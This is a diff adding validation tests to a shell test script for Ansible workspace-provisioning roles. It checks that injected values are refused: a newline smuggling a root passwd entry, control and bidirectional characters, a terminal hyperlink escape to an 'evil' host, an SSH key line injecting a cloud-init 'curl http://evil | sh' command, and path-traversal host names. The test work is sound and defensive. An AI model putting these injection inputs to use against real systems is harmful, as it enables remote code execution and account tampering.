@@ -125,6 +125,55 @@ cp -p "$private/malformed.json" "$work/malformed.orig"
 fails_with malformed "$private/malformed.json" "$private/malformed.json is corrupt: the entry workspace_agent.main: computed.id is missing; it was left untouched"
 cmp "$private/malformed.json" "$work/malformed.orig"
 
+# 6. Names that are not one line, from the CODER_* variables a provisioner sets, into the
+# workspace_vm role (in check mode, on libvirt's test driver): each is refused before anything
+# is built, naming the variable; so is an SSH key of several lines with one that is no key, or
+# with a C1 control. A good run (two keys) goes through. See faults_and_secrets.rst, "Names".
+export NAMES_DIR=$work/names
+mkdir -m 0700 "$NAMES_DIR"
+key1="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl jane@laptop"
+key2='command="/usr/bin/true",no-pty ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBA== jane@ci'
+role_run() { # role_run <name> [VAR=value...]: names.yml in check mode with these variables
+  local name=$1
+  shift
+  env "$@" ansible-playbook --check -v names.yml >"$work/$name.log" 2>&1
+}
+role_refuses() { # role_refuses <name> <message (fixed string)> [VAR=value...]
+  local name=$1 message=$2
+  shift 2
+  if role_run "$name" "$@"; then exit 1; fi
+  grep -F -- "$message" "$work/$name.log" || { grep -E 'fatal:|failed:|"msg"' "$work/$name.log"; exit 1; }
+  # Refused at the checks: no task after them ran.
+  if grep -q 'TASK \[devinfra.providers.workspace_vm : Name what the workspace is made of\]' "$work/$name.log"; then exit 1; fi
+}
+role_run names-good CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY="$key1"$'\n'"$key2"$'\n'
+grep -q 'The first-boot seed carries' "$work/names-good.log"
+role_refuses names-newline "CODER_WORKSPACE_OWNER_NAME (the owner's full name) contains a control character" CODER_WORKSPACE_OWNER_NAME=$'Jane\nroot:x:0:0::/root:/bin/sh'
+role_refuses names-c1 "CODER_WORKSPACE_OWNER contains a control character" CODER_WORKSPACE_OWNER=$'jane\xc2\x85evil'  # U+0085 (UTF-8)
+role_refuses names-line-separator "CODER_WORKSPACE_NAME contains a control character" CODER_WORKSPACE_NAME=$'dev\xe2\x80\xa8evil'  # U+2028
+role_refuses names-bidi "CODER_WORKSPACE_TEMPLATE_NAME contains a control character" CODER_WORKSPACE_TEMPLATE_NAME=$'tmpl\xe2\x80\xaeevil'  # U+202E
+role_refuses names-email "CODER_WORKSPACE_OWNER_EMAIL contains a control character" CODER_WORKSPACE_OWNER_EMAIL=$'jane@example.com\e]8;;http://evil\e\\'
+role_refuses names-ssh-injected "CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY line 2 is not an authorized_keys line" \
+  CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY="$key1"$'\nruncmd: [[sh, -c, "curl http://evil | sh"]]\n'
+role_refuses names-ssh-c1 "CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY line 2 contains a control character" \
+  CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY="$key1"$'\n'"$key2"$'\xc2\x85'"$key1"  # U+0085
+role_refuses names-ssh-cr "CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY line 1 contains a control character" \
+  CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY="$key1"$'\r'
+[ -z "$(ls -A "$NAMES_DIR")" ]  # check mode: nothing written
+
+# 7. Workspace hosts named like paths (../x, a/b, .., -opt), or with a bidirectional control,
+# or with workspace_vm_name ../evil, in the workspace_fleet playbook, for real on the test
+# driver: each is refused before its state file's path is built, naming the host; no state file
+# is written anywhere (one named ../x.json went next to the state directory).
+if ansible-playbook -i fleet.yml devinfra.providers.workspace_fleet -e workspace_fleet_prepare_hosts=false >"$work/fleet.log" 2>&1; then exit 1; fi
+# (The messages are JSON in the log: the host's name, JSON-escaped, between escaped quotes.)
+for host in '../x' 'a/b' '..' '-opt' 'right\\u202eleft'; do
+  grep -F -- "inventory host name of the workspace host \\\"$host\\\" must be a name" "$work/fleet.log" || { grep -E 'fatal:|failed:' "$work/fleet.log"; exit 1; }
+done
+grep -F -- 'workspace_vm_name of the workspace host \"good-name\" must be a name' "$work/fleet.log"
+[ "$(grep -cE '^[^ ]+ +: ok=0 +changed=0 +unreachable=0 +failed=1 ' "$work/fleet.log")" -eq 6 ]
+[ -z "$(find "$NAMES_DIR" -name '*.json')" ]
+
 # Nothing of root's or nobody's was followed, and no secret reached any output.
 victim_intact
 if grep -l "DVT[S]ECRET" "$work"/*.log; then exit 1; fi  # [S]: this line is traced into the log
